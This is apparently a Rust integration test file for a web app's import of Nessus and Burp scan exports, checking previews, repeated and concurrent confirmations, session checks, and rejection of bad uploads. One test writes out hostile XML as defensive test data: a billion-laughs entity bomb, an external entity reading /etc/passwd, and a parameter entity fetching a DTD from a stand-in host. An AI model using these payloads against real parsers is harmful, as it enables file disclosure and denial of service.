//! Imports of scans: preview, confirm, repeat; and files that make nothing.

use domain::role::TeamRole;
use http::StatusCode;
use tests::{Answer, Browser, Cast, World};

const NESSUS: &[u8] = include_bytes!("../../shared/domain/tests/data/two_hosts.nessus");
const BURP: &[u8] = include_bytes!("../../shared/domain/tests/data/three_issues.xml");

struct Import {
    world: World,
    team: Browser,
    here: String,
}

impl Import {
    async fn new() -> Self {
        let world = World::new().await;
        let cast = Cast::play(&world).await;
        let acme = &cast.acme;
        let team = world
            .signed_in(&acme.workspace, acme.member(TeamRole::Member))
            .await;
        let client = &acme.clients[0];
        let here = format!("/clients/{}/engagements/{}", client.id, client.engagement);
        Self { world, team, here }
    }

    async fn upload(&mut self, name: &str, bytes: &[u8]) -> Answer {
        let id = self
            .world
            .app
            .new_id::<domain::id::kind::Import>()
            .to_string();
        self.team
            .upload(&format!("{}/import", self.here), &id, name, bytes)
            .await
    }

    async fn drafts(&mut self) -> usize {
        let page = self
            .team
            .get(&format!("{}?show=drafts", self.here))
            .await
            .body;
        page.matches("state state-draft").count()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_becomes_drafts_once_however_often_it_is_confirmed() {
    let mut import = Import::new().await;
    for (name, bytes, makes) in [("scan.nessus", NESSUS, 2), ("issues.xml", BURP, 2)] {
        let before = import.drafts().await;
        let uploaded = import.upload(name, bytes).await;
        assert_eq!(uploaded.status, StatusCode::SEE_OTHER, "{}", uploaded.body);
        let preview = uploaded.location().to_owned();
        let page = import.team.get(&preview).await.body;
        assert!(page.contains(name), "{page}");
        assert!(
            page.contains(&format!("This would make {makes} drafts")),
            "{page}"
        );
        assert_eq!(import.drafts().await, before, "nothing is made by looking");
        for _ in 0..3 {
            let made = import.team.post(&preview, &[]).await;
            assert_eq!(made.location(), format!("{}?show=drafts", import.here));
        }
        assert_eq!(import.drafts().await, before + makes, "{name}");
        let again = import.team.get(&preview).await;
        assert_eq!(again.location(), format!("{}?show=drafts", import.here));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn two_confirmations_at_once_make_everything_once() {
    let mut import = Import::new().await;
    let issue =
        |n: usize| format!("<issue><type>{n}</type><name>n{n}</name><host>h</host></issue>");
    // More than one transaction holds.
    let file = format!(
        "<issues>{}</issues>",
        (0..75).map(issue).collect::<String>()
    );
    let before = import.world.dump().await.len();
    let preview = import
        .upload("many.xml", file.as_bytes())
        .await
        .location()
        .to_owned();
    let (mut one, mut two) = (import.team.clone(), import.team.clone());
    tokio::join!(one.post(&preview, &[]), two.post(&preview, &[]));
    let made = import.team.post(&preview, &[]).await;
    assert_eq!(made.status, StatusCode::SEE_OTHER, "{}", made.body);
    // A row, a text and an entry each, the import itself, and its entry in the audit log.
    assert_eq!(import.world.dump().await.len(), before + 3 * 75 + 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_broken_and_foreign_files_say_why_and_make_nothing() {
    let mut import = Import::new().await;
    let before = import.world.dump().await;
    let entity = |inside: &str| {
        format!("<!DOCTYPE x [{inside}]><issues><issue><name>&a;</name></issue></issues>")
    };
    let laughs = entity("<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;\">");
    let outside = entity("<!ENTITY a SYSTEM \"file:///etc/passwd\">");
    let parameter = entity("<!ENTITY % a SYSTEM \"https://evil.example/x.dtd\"> %a;");
    let deep = format!("{}{}", "<issues>".repeat(200), "</issues>".repeat(200));
    let utf16: Vec<u8> =
        b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><issues>\xff\xfe</issues>".to_vec();
    let large = vec![b' '; 5 * 1024 * 1024];
    let huge = vec![b' '; 50 * 1024 * 1024];
    let cases: [(&str, &[u8], &str); 14] = [
        ("", b"", "Choose a file"),
        ("laughs.xml", laughs.as_bytes(), "entities"),
        ("outside.xml", outside.as_bytes(), "entities"),
        ("parameter.xml", parameter.as_bytes(), "entities"),
        ("deep.xml", deep.as_bytes(), "nested too deeply"),
        (
            "cut.nessus",
            &NESSUS[..NESSUS.len() / 2],
            "broken or incomplete",
        ),
        ("odd.xml", &utf16, "not text in the encoding"),
        (
            "zap.xml",
            b"<OWASPZAPReport><site/></OWASPZAPReport>",
            "ZAP",
        ),
        ("page.xml", b"<html></html>", "web page"),
        ("notes.txt", b"no markup here", "not an XML file"),
        ("none.xml", b"", "The file is empty"),
        ("nothing.xml", b"<issues></issues>", "no findings"),
        ("large.xml", &large, "larger than 4 MB"),
        ("huge.xml", &huge, "larger than 4 MB"),
    ];
    for (name, bytes, says) in cases {
        let answer = import.upload(name, bytes).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}");
        assert!(
            answer.body.contains("id=\"file-error\""),
            "{name}: at the field"
        );
        assert!(answer.body.contains(says), "{name}: {}", answer.body);
        assert!(!answer.body.contains("root:"), "{name}");
    }
    assert!(before == import.world.dump().await, "something was made");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_upload_needs_its_token_before_its_file() {
    let mut import = Import::new().await;
    let before = import.world.dump().await;
    import.team.cookies.remove("__Host-sid");
    let answer = import.upload("scan.nessus", NESSUS).await;
    assert!(
        answer.location().starts_with("/sign-in"),
        "{}",
        answer.status
    );
    assert!(before == import.world.dump().await);
}
